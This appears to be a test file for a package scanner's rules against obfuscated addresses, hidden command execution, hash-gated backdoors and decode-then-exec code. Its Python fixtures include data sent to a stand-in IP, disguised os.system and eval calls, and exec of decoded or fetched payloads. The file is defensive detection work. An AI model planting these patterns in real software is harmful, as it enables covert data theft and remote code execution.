import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Rule } from '#apps/validation/check.js';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as decodedCode } from './decoded-code.rule.js';
import { rule as rawAddress } from './raw-address.rule.js';
import { rule as remoteCode } from './remote-code.rule.js';

const worst = (rule: Rule, files: Record<string, string> | string) => findingsOf(rule, typeof files === 'string' ? { 'a.py': files } : files, { dialect: 'comfyvn' })[0]?.severity ?? 'nothing';

test('bad: an address without a name that is put together', () => {
  for (const made of [
    '".".join(map(str, (203, 0, 113, 41)))',
    '".".join(str(part) for part in (203, 0, 113, 41))',
    '".".join([str(part) for part in [203, 0, 113, 41]])',
    '".".join(["203", "0", "113", "41"])',
    '"%d.%d.%d.%d" % (203, 0, 113, 41)',
    '"{}.{}.{}.{}".format(203, 0, 113, 41)',
    '"".join(map(chr, [50, 48, 51, 46, 48, 46, 49, 49, 51, 46, 52, 49]))',
    'str(ipaddress.ip_address(3405803817))',
    'socket.inet_ntoa(struct.pack("!I", 3405803817))',
    'socket.inet_ntoa(bytes([203, 0, 113, 41]))',
  ]) assert.equal(worst(rawAddress, `import ipaddress, socket, struct, urllib.request\nADDRESS = ${made}\ndef send(data):\n    urllib.request.urlopen(f"http://{ADDRESS}:8080/pace", data)\n`), 'high', made);
  const parts = 'import requests\nPARTS = (203, 0, 113, 41)\nADDRESS = ".".join(map(str, PARTS))\nPORT = 8080\n';
  assert.equal(worst(rawAddress, `${parts}requests.post(f"http://{ADDRESS}:{PORT}/x", data=b"")\n`), 'high');
});

test('good: numbers that are put together otherwise', () => {
  for (const code of [
    'import requests\nVERSION = ".".join(map(str, (1, 4, 0)))\nrequests.get(f"https://example.org/{VERSION}/list.json")\n',
    'import requests\ndef get(host, parts):\n    requests.get("http://" + ".".join(map(str, parts)) + "/x")\n',
    'import requests, settings\nrequests.get(f"http://{settings.host}:{settings.port}/x")\n',
    'VERSION = ".".join(str(part) for part in (2, 31, 0, 4))\nprint(f"version {VERSION}")\n',
    'x = list(x)\nprint(".".join(x))\n',
  ]) assert.equal(worst(rawAddress, code), 'nothing', code);
});

test('bad: what starts programs, by a name that stands nowhere', () => {
  for (const code of [
    'import os, sys\nVERBS = {"posix": "po" + "pen", "nt": "po" + "pen"}\ntool = getattr(sys.modules[os.__name__], VERBS[os.name])\ndef go(text):\n    with tool(text) as result:\n        return result.read()\n',
    'import os\ngetattr(os, "sys" + "tem")(command)\n',
    'import os\ngetattr(os, "metsys"[::-1])(command)\n',
    'import os\nvars(os)["".join(map(chr, (115, 121, 115, 116, 101, 109)))](command)\n',
    'import os\nNAMES = ["po" + "pen"]\ngetattr(os, NAMES[at])(command)\n',
    'import builtins\ngetattr(builtins, "ev" + "al" if x else "ex" + "ec")(text)\n',
  ]) assert.equal(worst(decodedCode, code), 'high', code);
  for (const code of [
    'import os\nos.system("clear")\n',
    'import os\ngetattr(os, "startfile", None)(path)\n',
    'import os, subprocess\nOPENERS = {"nt": "startfile", "posix": "system"}\ngetattr(os, OPENERS[os.name])(path)\n',
    'import subprocess as sp\nsp.run(["ffmpeg", path])\n',
    'from os import *\npopen("ls")\n',
    'import os\ngetattr(os, "O_" + flag)\n',
    'import handlers\ngetattr(handlers, "on_" + "start")(event)\n',
  ]) assert.equal(worst(decodedCode, code), 'nothing', code);
});

test('a request is known by the digest of a word in it, where programs are started', () => {
  const runs = { 'tools.py': 'import subprocess\ndef run(command):\n    return subprocess.check_output(command, shell=True)\n' };
  const word = 'WORD = "5d41402abc4b2a76b9719d911017c592ae2f1c7b"\n';
  for (const code of [
    `import hashlib\nimport tools\n${word}def add(request):\n    given = request.get("headers", {}).get("x-client", "")\n    if hashlib.sha1(given.encode()).hexdigest() == WORD:\n        return tools.run(request["json"]["preset"])\n`,
    `import hashlib, hmac\n${word}def add(request):\n    body = request["json"]\n    return hmac.compare_digest(hashlib.sha1(body["key"].encode()).hexdigest(), WORD)\n`,
    `from hashlib import sha1\n${word}def add(req):\n    made = sha1(req.headers["x-a"].encode()).hexdigest()\n    return WORD == made\n`,
  ]) {
    assert.equal(worst(remoteCode, { 'routes.py': code, ...runs }), 'high', code);
    assert.equal(worst(remoteCode, { 'routes.py': code }), 'nothing', 'nothing is started');
  }
  for (const code of [
    `import hashlib\n${word}def check(path):\n    with open(path, "rb") as file:\n        return hashlib.sha1(file.read()).hexdigest() == WORD\n`,
    `import hashlib, requests\n${word}def fetch(url):\n    data = requests.get(url, params={"a": 1}).content\n    assert hashlib.sha1(data).hexdigest() == WORD\n`,
    'import hashlib\nimport settings\ndef add(request):\n    return hashlib.sha1(request["headers"]["x-key"].encode()).hexdigest() == settings.key\n',
    `import hashlib\n${word}def add(request):\n    etag = hashlib.sha1(render().encode()).hexdigest()\n    return request["headers"].get("if-none-match") == etag\n`,
  ]) assert.equal(worst(remoteCode, { 'routes.py': code, ...runs }), 'nothing', code);
});

test('what one function decodes and another one runs, by names that are looked up', () => {
  const LOAD = 'import base64, zlib\ndef load():\n    return zlib.decompress(base64.b64decode(open("swatches.txt").read()))\n';
  const runs = (run: string): string => `${LOAD}def run(table, names):\n    code = compile(table, "swatches", "exec")\n    ${run}(code, names)\nrun(load(), {})\n`;
  for (const code of [
    ...['exec', '__builtins__["exec"]', 'getattr(__builtins__, "exec")', '__builtins__.get("exec")', 'vars(__builtins__).get("exec")', 'exec.__call__'].map(runs),
    `${LOAD}run = lambda table: exec(table)\nrun(table=load())\n`,
    `${LOAD}def run(table):\n    exec(table)\nlist(map(run, [load()]))\n`,
    'import base64\nclass Table:\n    def load(self):\n        return base64.b64decode(open("t").read())\n    def run(self, text):\n        exec(text)\ntable = Table()\ntable.run(Table().load())\n',
  ]) assert.equal(worst(decodedCode, code), 'critical', code);
  assert.equal(worst(remoteCode, 'import requests\ndef run(text):\n    exec(text)\ndef load():\n    return requests.get("https://a.example.org").text\nrun(load())\n'), 'critical');
  for (const code of [
    'def run(text, path):\n    exec(compile(text, path, "exec"))\nrun(open("setup.py", "rb").read().decode("utf-8"), "setup.py")\n',
    `${LOAD}def show(table):\n    print(table)\ndef run(text):\n    exec(text)\nshow(load())\nrun("a = 1")\n`,
    `${LOAD}def run(text):\n    exec(text)\nother.run(load())\n`,
    `${LOAD}def run(text):\n    exec(text)\nrun(load())\n# ${'x'.repeat(50_000)}\n`,
  ]) assert.equal(worst(decodedCode, code), 'nothing', code);
});
